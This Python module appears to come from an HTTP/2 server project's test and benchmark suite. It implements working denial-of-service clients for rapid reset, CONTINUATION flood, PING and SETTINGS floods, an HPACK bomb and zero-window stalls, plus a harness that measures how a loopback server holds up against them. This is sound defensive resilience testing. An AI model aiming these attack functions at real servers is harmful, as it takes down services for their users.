"""
HTTP/2 attacks, as the clients that make them: each opens its own
connection to a server on loopback, attacks it, and says how the server
ended it.  C{bench.hostile} runs them at full size with an honest client
measured all along (L{measure}); C{tests/e2e/test_h2.py} runs them small.

Each attack is a function C{attack(port, *, tls=False, size=..., timeout=10.0)
-> AttackOutcome}; L{ATTACKS} names them with their full sizes.

  - L{rapidReset}: streams opened and reset at once (CVE-2023-44487);
  - L{continuationFlood}: one header block in endless CONTINUATION frames
    (CVE-2024-27316 and kin);
  - L{pingFlood}: PINGs from a client that never reads;
  - L{hpackBomb}: one big header in HPACK's table, then referenced
    thousands of times in one header block;
  - L{settingsFlood}: SETTINGS frames from a client that reads every ACK;
  - L{zeroWindow}: streams to big responses whose window the client never
    opens (against C{--app tests.apps.bigapp:Root}).
"""

from __future__ import annotations

import multiprocessing
import select
import socket
import ssl
import time
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
)

from gracesvc.testing.h2 import h2Socket

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


@dataclass
class AttackOutcome:
    """
    How the server ended one attack.

    @ivar name: the attack.
    @ivar sent: how many of its units (streams, frames, headers) the client
        sent before the server ended it.
    @ivar ended: C{"goaway"} (a GOAWAY, then the connection closed),
        C{"closed"} (closed or reset with no GOAWAY read), or C{"open"} (the
        attack ran to its end, or its timeout, and the connection was still
        open).
    @ivar errorCode: the GOAWAY's error code, if one was read.
    @ivar seconds: from the first byte to the end.
    """

    name: str
    sent: int
    ended: str
    errorCode: int | None
    seconds: float

    @property
    def stopped(self) -> bool:
        """
        Whether the server ended it (a GOAWAY or a close).
        """
        return self.ended != "open"


class _Attacker:
    """
    A raw HTTP/2 client connection for an attack: frames written as fast as
    the socket takes them, what comes back parsed only for a GOAWAY.
    """

    def __init__(self, port: int, tls: bool, timeout: float) -> None:
        self.sock = h2Socket(port, tls, timeout)
        self.startedAt = time.monotonic()
        self.deadline = self.startedAt + timeout
        self.closed = False
        self.errorCode: int | None = None
        self._buffer = b""
        self.encoder = Encoder()
        self.send(PREFACE + SettingsFrame(0).serialize())

    def send(self, data: bytes) -> bool:
        """
        @return: whether the server still takes bytes.
        """
        if self.closed:
            return False
        try:
            self.sock.sendall(data)
        except OSError:
            self.closed = True
        return not self.closed

    def read(self, wait: float = 0.0, acks: bool = False) -> None:
        """
        Read what has come, looking for a GOAWAY; with C{acks}, acknowledge
        the server's SETTINGS as a client must.
        """
        while not self.closed:
            pending = isinstance(self.sock, ssl.SSLSocket) and self.sock.pending()
            if not pending and not select.select([self.sock], [], [], wait)[0]:
                return
            try:
                data = self.sock.recv(1 << 16)
            except OSError:
                data = b""
            if not data:
                self.closed = True
                return
            self._buffer += data
            while len(self._buffer) >= 9:
                frame, length = Frame.parse_frame_header(memoryview(self._buffer[:9]))
                if len(self._buffer) < 9 + length:
                    break
                frame.parse_body(memoryview(self._buffer[9 : 9 + length]))
                self._buffer = self._buffer[9 + length :]
                if isinstance(frame, GoAwayFrame) and self.errorCode is None:
                    self.errorCode = frame.error_code
                elif acks and isinstance(frame, SettingsFrame):
                    if "ACK" not in frame.flags:
                        self.send(SettingsFrame(0, flags=["ACK"]).serialize())
            wait = 0.0

    def expired(self) -> bool:
        return time.monotonic() > self.deadline

    def outcome(self, name: str, sent: int) -> AttackOutcome:
        """
        Wait (to the timeout) for the server to end it, then say how it did.
        """
        while not self.closed and not self.expired():
            self.read(0.05)
        ended = "open"
        if self.closed:
            ended = "goaway" if self.errorCode is not None else "closed"
        seconds = time.monotonic() - self.startedAt
        try:
            self.sock.close()
        except OSError:
            pass
        return AttackOutcome(name, sent, ended, self.errorCode, seconds)

    def headers(self, streamID: int, path: str = "/healthz") -> bytes:
        frame = HeadersFrame(
            streamID,
            self.encoder.encode(
                [
                    (":method", "GET"),
                    (":scheme", "http"),
                    (":authority", "127.0.0.1"),
                    (":path", path),
                ]
            ),
        )
        frame.flags.add("END_HEADERS")
        frame.flags.add("END_STREAM")
        data: bytes = frame.serialize()
        return data


def rapidReset(
    port: int, *, tls: bool = False, size: int = 20000, timeout: float = 10.0
) -> AttackOutcome:
    """
    C{size} streams, each opened and reset at once, 100 to a write.
    """
    a = _Attacker(port, tls, timeout)
    sent = 0
    while sent < size and not a.closed and not a.expired():
        batch = b""
        for _ in range(100):
            streamID = 1 + 2 * sent
            batch += a.headers(streamID) + RstStreamFrame(streamID, 8).serialize()
            sent += 1
        a.send(batch)
        a.read(acks=True)
    return a.outcome("rapid reset", sent)


def continuationFlood(
    port: int, *, tls: bool = False, size: int = 10000, timeout: float = 10.0
) -> AttackOutcome:
    """
    A HEADERS frame without END_HEADERS, then C{size} CONTINUATION frames
    of one small header each.
    """
    a = _Attacker(port, tls, timeout)
    first = HeadersFrame(1, a.encoder.encode([(":method", "GET")]))
    a.send(first.serialize())
    sent = 0
    while sent < size and not a.closed and not a.expired():
        batch = b"".join(
            ContinuationFrame(1, a.encoder.encode([("x-flood", "y" * 16)])).serialize()
            for _ in range(100)
        )
        a.send(batch)
        sent += 100
        a.read(acks=True)
    return a.outcome("CONTINUATION flood", sent)


def pingFlood(
    port: int, *, tls: bool = False, size: int = 200000, timeout: float = 10.0
) -> AttackOutcome:
    """
    C{size} PINGs from a client that never reads.
    """
    a = _Attacker(port, tls, timeout)
    ping = PingFrame(0, opaque_data=b"floodflo").serialize() * 1000
    sent = 0
    while sent < size and a.send(ping) and not a.expired():
        sent += 1000
    return a.outcome("PING flood, never reading", sent)


def settingsFlood(
    port: int, *, tls: bool = False, size: int = 200000, timeout: float = 10.0
) -> AttackOutcome:
    """
    C{size} empty SETTINGS frames, from a client that reads every ACK.
    """
    a = _Attacker(port, tls, timeout)
    settings = SettingsFrame(0).serialize() * 1000
    sent = 0
    while sent < size and a.send(settings) and not a.expired():
        sent += 1000
        a.read()
    return a.outcome("SETTINGS flood, reading", sent)


def hpackBomb(
    port: int, *, tls: bool = False, size: int = 100000, timeout: float = 10.0
) -> AttackOutcome:
    """
    A 4 KiB header added to HPACK's dynamic table, then one header block
    naming it C{size} times (a byte each): 400 MB once decoded.
    """
    a = _Attacker(port, tls, timeout)
    big = a.encoder.encode([("x-bomb", "b" * 4000)])
    # Index 62, the newest entry of the dynamic table: one byte, 0xbe.
    block = (
        a.encoder.encode([(":method", "GET"), (":path", "/healthz")])
        + a.encoder.encode([(":scheme", "http"), (":authority", "x")])
        + big
        + b"\xbe" * size
    )
    frames = b""
    chunk = 16384
    pieces = [block[i : i + chunk] for i in range(0, len(block), chunk)]
    for i, piece in enumerate(pieces):
        frame: Frame = HeadersFrame(1, piece) if i == 0 else ContinuationFrame(1, piece)
        if i == 0:
            frame.flags.add("END_STREAM")
        if i == len(pieces) - 1:
            frame.flags.add("END_HEADERS")
        frames += frame.serialize()
    a.send(frames)
    return a.outcome("HPACK bomb", size)


def zeroWindow(
    port: int, *, tls: bool = False, size: int = 100, timeout: float = 10.0
) -> AttackOutcome:
    """
    C{size} streams to C{/big/4096} (4 MiB each, C{tests.apps.bigapp}) from
    a client whose windows stay shut; it reads, so that only flow control
    holds the responses.  Ends when the server has reset every stream.
    """
    a = _Attacker(port, tls, timeout)
    a.send(b"".join(a.headers(1 + 2 * i, "/big/4096") for i in range(size)))
    resets = 0
    buffer = b""
    while resets < size and not a.closed and not a.expired():
        if not select.select([a.sock], [], [], 0.05)[0]:
            continue
        data = a.sock.recv(1 << 16)
        if not data:
            a.closed = True
            break
        buffer += data
        while len(buffer) >= 9:
            frame, length = Frame.parse_frame_header(memoryview(buffer[:9]))
            if len(buffer) < 9 + length:
                break
            frame.parse_body(memoryview(buffer[9 : 9 + length]))
            buffer = buffer[9 + length :]
            if isinstance(frame, RstStreamFrame):
                resets += 1
            elif isinstance(frame, GoAwayFrame):
                a.errorCode = frame.error_code
            elif isinstance(frame, SettingsFrame) and "ACK" not in frame.flags:
                a.send(SettingsFrame(0, flags=["ACK"]).serialize())
    a.closed = a.closed or resets >= size
    return a.outcome(f"zero window ({resets} of {size} streams reset)", size)


#: Each attack, at full size.
ATTACKS: dict[str, Callable[..., AttackOutcome]] = {
    "rapid-reset": rapidReset,
    "continuation": continuationFlood,
    "ping-flood": pingFlood,
    "hpack-bomb": hpackBomb,
    "settings-flood": settingsFlood,
    "zero-window": zeroWindow,
}


@dataclass
class AttackRun:
    """
    One attack with an honest client measured all along.

    @ivar outcomes: how the server ended each attack, one connection each,
        repeated for the run's duration.
    @ivar honestP99: the honest client's 99th percentile latency, seconds.
    @ivar honestMax: its slowest request.
    @ivar honestRequests: how many it made (all answered 200, or it fails).
    @ivar rssGrowth: the server's peak resident memory during the attack
        less its resident memory before, in bytes.
    """

    outcomes: list[AttackOutcome]
    honestP99: float
    honestMax: float
    honestRequests: int
    rssGrowth: int


def _attackFor(
    attack: Callable[..., AttackOutcome],
    port: int,
    duration: float,
    kwargs: dict[str, object],
    results: Any,
) -> None:
    """
    Run C{attack} again and again for C{duration} seconds; put the list of
    outcomes on C{results}.
    """
    outcomes = []
    until = time.monotonic() + duration
    while time.monotonic() < until:
        outcomes.append(attack(port, **kwargs))
    results.put(outcomes)


def residentBytes(pid: int) -> int:
    """
    @return: the resident memory of process C{pid}, in bytes.
    """
    with open(f"/proc/{pid}/status") as status:
        for line in status:
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) * 1024
    raise ValueError(f"no VmRSS for {pid}")


def measure(
    attack: Callable[..., AttackOutcome],
    attackPort: int,
    honestPort: int,
    pid: int,
    duration: float = 3.0,
    **kwargs: object,
) -> AttackRun:
    """
    Run C{attack} against C{attackPort}, again and again on new connections
    for C{duration} seconds, while an honest client sends C{GET /healthz}
    over keep-alive HTTP/1.1 to C{honestPort}, one after another, and the
    resident memory of C{pid} is sampled.

    @param kwargs: passed to C{attack} (C{tls}, C{size}, C{timeout}).
    @raise AssertionError: if the honest client gets anything but a 200.
    """
    before = residentBytes(pid)
    peak = before
    latencies: list[float] = []
    # The attacker runs in a process of its own, so that the honest client
    # measures the server, not the attacker's share of this one's GIL.
    context = multiprocessing.get_context("fork")
    results: Any = context.Queue()
    attacker = context.Process(
        target=_attackFor,
        args=(attack, attackPort, duration, kwargs, results),
        daemon=True,
    )

    class _Done:
        def is_set(self) -> bool:
            return not results.empty() or not attacker.is_alive()

    done = _Done()
    with socket.create_connection(("127.0.0.1", honestPort), timeout=10) as honest:
        attacker.start()
        request = b"GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n"
        while not done.is_set() or not latencies:
            startedAt = time.monotonic()
            honest.sendall(request)
            response = b""
            while b'"ok"}' not in response:
                chunk = honest.recv(4096)
                if not chunk:
                    raise AssertionError("the honest client's connection closed")
                response += chunk
            latencies.append(time.monotonic() - startedAt)
            if not response.startswith(b"HTTP/1.1 200"):
                raise AssertionError(f"the honest client got {response[:40]!r}")
            peak = max(peak, residentBytes(pid))
            time.sleep(0.005)
    outcomes: list[AttackOutcome] = results.get(timeout=30)
    attacker.join()
    latencies.sort()
    p99 = latencies[min(len(latencies) - 1, int(len(latencies) * 0.99))]
    return AttackRun(outcomes, p99, latencies[-1], len(latencies), peak - before)
